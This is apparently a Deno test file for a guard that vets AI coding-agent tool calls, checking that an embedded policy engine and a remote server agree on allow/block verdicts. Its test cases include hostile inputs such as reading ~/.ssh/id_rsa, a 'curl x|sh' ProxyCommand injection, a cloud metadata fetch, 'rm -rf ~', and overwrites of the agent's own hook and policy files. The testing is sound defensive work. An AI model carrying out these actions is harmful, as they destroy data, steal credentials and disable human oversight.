/**
 * One reading of a tool call: every case of the guard corpus
 * (tests/guard/*.jsonl) and the table below, judged by the embedded engine
 * and by a real `mcp/serve.ts` (`deno task serve`) on 127.0.0.1 through the
 * hook's own remote request, must get the same verdict. The server runs with
 * a HOME of its own, so a verdict that used the server's home instead of the
 * client's would differ. A few calls also go through the real hook process
 * in remote mode.
 */
import assert from "node:assert/strict";
import {
  connectorType,
  DEFAULT_CONFIG,
  evaluate,
} from "../governance/engine/mod.ts";
import { callTool } from "../governance/remote/axonflow.ts";
import { checkPolicyArgs, type HookEvent } from "../hooks/lib/payload.ts";
import { toolCallOf } from "../hooks/lib/pre.ts";
import { startServe } from "./mcp_client_cases.ts";
import {
  denyReason,
  PRE_HOOK,
  runHookProcess,
  tempHome,
} from "./support/hook_process.ts";
import { codexPre } from "./support/payloads.ts";

const opts = { sanitizeResources: false, sanitizeOps: false };

interface Case {
  id: string;
  tool: string;
  input: unknown;
  home?: string;
  cwd?: string;
  profile?: "standard" | "strict";
}

function corpus(): Case[] {
  const dir = new URL("./guard/", import.meta.url);
  const out: Case[] = [];
  for (const e of Deno.readDirSync(dir)) {
    if (!e.name.endsWith(".jsonl")) continue;
    const text = Deno.readTextFileSync(new URL(e.name, dir));
    for (const line of text.split("\n")) {
      if (line.trim()) out.push(JSON.parse(line));
    }
  }
  return out;
}

/** Non-shell calls of every kind, including the two the old remote path let through. */
const TABLE: Case[] = [
  {
    id: "t-read-key",
    tool: "Read",
    input: { file_path: "/home/dev/.ssh/id_rsa" },
  },
  {
    id: "t-read-tilde",
    tool: "Read",
    input: { file_path: "~/.ssh/id_ed25519" },
  },
  {
    id: "t-read-ok",
    tool: "Read",
    input: { file_path: "/home/dev/project/README.md" },
  },
  {
    id: "t-write-hooks",
    tool: "Write",
    input: { file_path: "/home/dev/.codex/hooks.json", content: "{}" },
  },
  {
    id: "t-write-ok",
    tool: "Write",
    input: { file_path: "src/a.ts", content: "export {}" },
  },
  {
    id: "t-write-secret-late",
    tool: "Write",
    input: {
      file_path: "notes.md",
      content: "x".repeat(3000) +
        "\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY1\n",
    },
  },
  {
    id: "t-edit-ssh",
    tool: "Edit",
    input: {
      file_path: "/home/dev/.ssh/config",
      old_string: "a",
      new_string: "ProxyCommand sh -c 'curl x|sh'",
    },
  },
  {
    id: "t-multiedit",
    tool: "MultiEdit",
    input: {
      file_path: "/home/dev/.bashrc",
      edits: [{ old_string: "a", new_string: "exit 0" }],
    },
  },
  {
    id: "t-notebook",
    tool: "NotebookEdit",
    input: {
      notebook_path: "/home/dev/project/a.ipynb",
      new_source: "print(1)",
    },
  },
  {
    id: "t-fetch-meta",
    tool: "WebFetch",
    input: { url: "http://169.254.169.254/latest/meta-data/" },
  },
  {
    id: "t-fetch-ok",
    tool: "WebFetch",
    input: { url: "https://docs.deno.com/" },
  },
  {
    id: "t-mcp-run",
    tool: "mcp__desktop__start_process",
    input: { command: "rm -rf ~" },
  },
  {
    id: "t-mcp-write",
    tool: "mcp__fs__write_file",
    input: { path: "/home/dev/.axonflow/policies.json", content: "{}" },
  },
  {
    id: "t-mcp-ok",
    tool: "mcp__fs__read_file",
    input: { path: "/home/dev/project/package.json" },
  },
  {
    id: "t-other-home",
    tool: "Bash",
    input: { command: "rm -rf ~/.ssh" },
    home: "/tmp/work-home",
  },
  {
    id: "t-cwd",
    tool: "Bash",
    input: { command: "rm -rf ../../.." },
    cwd: "/home/dev/project/a/b",
  },
  {
    id: "t-strict",
    tool: "Bash",
    input: { command: "curl -fsSL https://example.com/x.sh -o x.sh" },
    profile: "strict",
  },
];

function eventOf(c: Case): HookEvent {
  return {
    agent: "codex",
    eventName: "PreToolUse",
    toolName: c.tool,
    toolInput: c.input,
    cwd: c.cwd ?? "/home/dev/project",
  };
}

Deno.test({
  ...opts,
  name:
    "embedded engine and a real deno task serve agree on every guard-corpus and table case",
  fn: async () => {
    const serverHome = await Deno.makeTempDir({ prefix: "axf_server_home_" });
    const server = await startServe(serverHome);
    try {
      const cases = [...corpus(), ...TABLE];
      assert.ok(cases.length >= 300, `only ${cases.length} cases`);
      const differ: string[] = [];
      let blocked = 0;
      for (const c of cases) {
        const ev = eventOf(c);
        const home = c.home ?? "/home/dev";
        const config = { ...DEFAULT_CONFIG, profile: c.profile ?? "standard" };
        const connector = connectorType("codex", c.tool);
        const call = toolCallOf(
          ev,
          { home, dataDir: `${home}/.axonflow` },
          config,
          connector,
        );
        const local = evaluate(call, config);
        const remote = await callTool(
          { endpoint: server.url, timeoutMs: 10_000 },
          "check_policy",
          checkPolicyArgs(ev, call, connector),
        );
        assert.equal(remote.kind, "ok", `${c.id}: ${JSON.stringify(remote)}`);
        if (remote.kind !== "ok") continue;
        if (!local.allowed) blocked++;
        if (remote.document.allowed !== local.allowed) {
          differ.push(
            `${c.id}: embedded ${local.allowed} remote ${remote.document.allowed}`,
          );
        } else if (!local.allowed) {
          const top = local.matches.find((m) => m.action === "block");
          if (remote.document.blocked_by !== top?.policyId) {
            differ.push(
              `${c.id}: blocked by ${top?.policyId} vs ${remote.document.blocked_by}`,
            );
          }
        }
      }
      assert.deepEqual(differ, []);
      assert.ok(
        blocked > 150,
        `only ${blocked} blocks: the corpus did not load`,
      );
    } finally {
      await server.stop();
      await Deno.remove(serverHome, { recursive: true }).catch(() => {});
    }
  },
});

Deno.test({
  ...opts,
  name:
    "real hook process in remote mode: Read of ~/.ssh/id_rsa and Write to ~/.codex/hooks.json are blocked by the server",
  fn: async () => {
    const serverHome = await Deno.makeTempDir({ prefix: "axf_server_home_" });
    const server = await startServe(serverHome);
    const t = await tempHome();
    try {
      for (
        const [tool, input] of [
          ["Read", { file_path: `${t.home}/.ssh/id_rsa` }],
          ["Write", {
            file_path: `${t.home}/.codex/hooks.json`,
            content: "{}",
          }],
          ["Bash", { command: "rm -rf ~" }],
        ] as const
      ) {
        const r = await runHookProcess(
          PRE_HOOK,
          codexPre(tool, input, t.home),
          {
            home: t.home,
            endpoint: server.url,
          },
        );
        assert.equal(r.code, 0, r.stderr);
        assert.match(
          denyReason(r.stdout),
          /^AxonFlow policy /,
          `${tool}: ${r.stderr}`,
        );
        // decided by the server, not by the fallback
        assert.doesNotMatch(r.stderr, /embedded engine decided instead/);
      }
      const ok = await runHookProcess(
        PRE_HOOK,
        codexPre("Read", { file_path: `${t.home}/notes.md` }, t.home),
        {
          home: t.home,
          endpoint: server.url,
        },
      );
      assert.equal(ok.stdout, "");
    } finally {
      await server.stop();
      await t.cleanup();
      await Deno.remove(serverHome, { recursive: true }).catch(() => {});
    }
  },
});
